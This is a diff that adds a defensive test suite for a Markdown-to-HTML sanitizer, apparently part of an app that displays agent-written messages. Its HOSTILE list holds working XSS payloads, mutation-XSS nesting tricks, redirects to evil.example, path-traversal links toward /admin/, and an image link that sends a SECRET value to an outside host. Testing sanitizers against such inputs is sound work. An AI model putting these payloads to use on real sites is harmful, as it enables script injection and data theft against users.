@@ -1,0 +1,269 @@
+"""What an agent writes becomes HTML that can be shown, and nothing more than that."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from conversations import rendering
+from conversations.rendering import plain_to_html, to_html
+
+ATTRIBUTES = {
+    "a": {"href", "title", "target", "rel"},
+    "code": {"class"},
+    "div": {"class"},
+    "img": {"src", "alt", "title", "loading"},
+    "ol": {"start"},
+    "p": {"class"},
+    "td": {"align"},
+    "th": {"align"},
+}
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](//evil.example/)",
+    "[x](/admin/logout/)",
+    "[x](/media/../admin/logout/)",
+    "[x](/media/%2e%2e/admin/logout/)",
+    "[x](/media/%2E./admin/)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/p.png?q=SECRET)",
+    "![x](//evil.example/p.png)",
+    "![x](/\\evil.example/p.png)",
+    "![x](/media\\..\\p.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](data:image/png;base64,AAAA)",
+    '![x](https://a.example/"onerror="alert(1))',
+    '[x](https://a.example/ "t\\" onmouseover=\\"alert(1)")',
+    "<svg/onload=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=//evil.example><input name=q></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example'</style>",
+    "<base href=//evil.example/>",
+    "```\n<script>alert(1)</script>",
+    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
+    '```x" onmouseover="alert(1)\ncode\n```',
+    "`<script>alert(1)</script>`",
+    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
+    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00",
+    "<!-- --><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+
+
+class Outline(HTMLParser):
+    """The elements of some HTML as a browser would find them, and its text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str]]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment came through: {data!r}")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(f"a declaration came through: {decl!r}")
+
+
+def assert_harmless(html: str) -> Outline:
+    outline = Outline(html)
+    for tag, attributes in outline.elements:
+        assert tag in rendering.ALLOWED_TAGS
+        assert attributes.keys() <= ATTRIBUTES.get(tag, set())
+        if "href" in attributes:
+            assert attributes["href"].lower().startswith(("http:", "https:", "mailto:", "/media/"))
+            assert attributes["target"] == "_blank"
+            assert attributes["rel"] == "nofollow noopener noreferrer"
+        for address in (attributes.get("href", ""), attributes.get("src", "")):
+            assert "/admin/" not in address
+        if "src" in attributes:
+            assert attributes["src"].startswith("/media/")
+            assert ".." not in attributes["src"]
+    return outline
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_leaves_only_harmless_elements(text: str) -> None:
+    assert_harmless(to_html(text))
+    assert_harmless(plain_to_html(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_the_sanitizer_alone_is_enough(text: str) -> None:
+    assert_harmless(rendering.sanitize(text))
+
+
+MARKDOWN_PIECES = st.sampled_from(
+    [
+        *(
+            "#",
+            "##",
+            ">",
+            "-",
+            "*",
+            "**",
+            "_",
+            "~~",
+            "`",
+            "```",
+            "[",
+            "](",
+            ")",
+            "![",
+            "|",
+            "|-|-|",
+        ),
+        *(" ", "\n", "\n\n", "\t", "\\", "<b>", "</b>", "<!--", "<a href=", "&amp;", "\x1b[1m"),
+        *(
+            "javascript:",
+            "data:",
+            "https://a.example",
+            "/media/x.png",
+            "1.",
+            "word",
+            "你好",
+            "\xa0",
+        ),
+    ]
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(MARKDOWN_PIECES | st.text(max_size=8), max_size=30).map("".join))
+@example("![a](/media/a.png)")
+def test_any_text_becomes_only_allowed_elements(text: str) -> None:
+    assert_harmless(to_html(text))
+    assert_harmless(plain_to_html(text))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from(list("a好.1)-+=#: \n\u3000")), max_size=12))
+def test_the_short_cut_for_plain_text_changes_nothing(pieces: list[str]) -> None:
+    text = "".join(pieces)
+
+    assert Outline(to_html(text)).elements == Outline(rendering._render(text)).elements
+    assert Outline(to_html(text)).text.strip() == Outline(rendering._render(text)).text.strip()
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=60))
+def test_what_a_person_typed_comes_back_as_typed(text: str) -> None:
+    html = plain_to_html(text).replace("<br>", "\n")
+
+    assert Outline(html).text.removesuffix("\n") == rendering.clean_text(text)
+
+
+def test_a_code_block_names_its_language() -> None:
+    html = to_html("```python\nprint('<hi>')\n```")
+
+    assert html == "<pre><code class=\"language-python\">print('&lt;hi&gt;')\n</code></pre>\n"
+
+
+def test_a_half_open_code_block_is_code() -> None:
+    assert to_html("```\n**x**") == "<pre><code>**x**</code></pre>\n"
+
+
+def test_a_line_break_is_kept() -> None:
+    assert to_html("one\ntwo") == "<p>one<br>\ntwo</p>\n"
+    assert to_html("*one*\ntwo") == "<p><em>one</em><br>\ntwo</p>\n"
+
+
+def test_a_table_scrolls_in_its_own_box_and_keeps_its_alignment() -> None:
+    html = to_html("|a|b|\n|:-:|--:|\n|1|2|")
+
+    assert '<div class="table"><table>' in html
+    assert '<th align="center">a</th>' in html
+    assert '<td align="right">2</td>' in html
+    assert "style" not in html
+
+
+def test_an_own_picture_is_shown() -> None:
+    (_, picture) = Outline(to_html("![Chart](/media/2026/a%20%E5%9B%BE.png)")).elements
+
+    assert picture == (
+        "img",
+        {"src": "/media/2026/a%20%E5%9B%BE.png", "alt": "Chart", "loading": "lazy"},
+    )
+
+
+def test_a_picture_from_elsewhere_becomes_a_link_that_loads_nothing() -> None:
+    outline = assert_harmless(to_html("![Chart](https://a.example/c.png)"))
+
+    assert [tag for tag, _ in outline.elements] == ["p", "a"]
+    assert outline.text.strip() == "Chart"
+
+
+def test_raw_html_is_shown_as_text() -> None:
+    assert Outline(to_html("a <b>bold</b> move")).text.strip() == "a <b>bold</b> move"
+
+
+def test_terminal_colors_and_control_characters_disappear() -> None:
+    assert to_html("\x1b[1;31mred\x1b[0m\x00 alert\x07") == "<p>red alert</p>\n"
+
+
+def test_deep_quotes_keep_their_text() -> None:
+    assert "bottom" in to_html("> " * 25 + "bottom")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 100_000,
+        "`" * 100_000,
+        "*" * 100_000,
+        "![" * 20_000,
+        "[" * rendering.MARKDOWN_MAX_CHARS,
+        "".join("`" * length + "a" for length in range(1, 280)),
+        "*a_" * 13_000,
+        "[a](b" * 7_500,
+        "> " * 20_000,
+        "".join(" " * depth + "- a\n" for depth in range(280)),
+        "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 10_000,
+        "x" * 1_000_000,
+        "*x* " * 250_000,
+        "\n" * 1_000_000,
+    ],
+    ids=lambda text: f"{text[:8]!r} of {len(text)}",
+)
+def test_no_text_takes_long(text: str) -> None:
+    started = time.process_time()
+
+    rendering._render_cached.cache_clear()
+    html = to_html(text)
+
+    # Five times what was measured, for a slower machine; without the bound it is minutes.
+    assert time.process_time() - started < 6
+    assert len(html) < 2_000_000 + 5 * len(text)
+
+
+def test_long_texts_are_not_kept_in_memory() -> None:
+    rendering._render_cached.cache_clear()
+
+    to_html("*a*" + "b" * rendering.CACHE_MAX_CHARS)
+    to_html("*a*")
+
+    assert rendering._render_cached.cache_info().currsize == 1
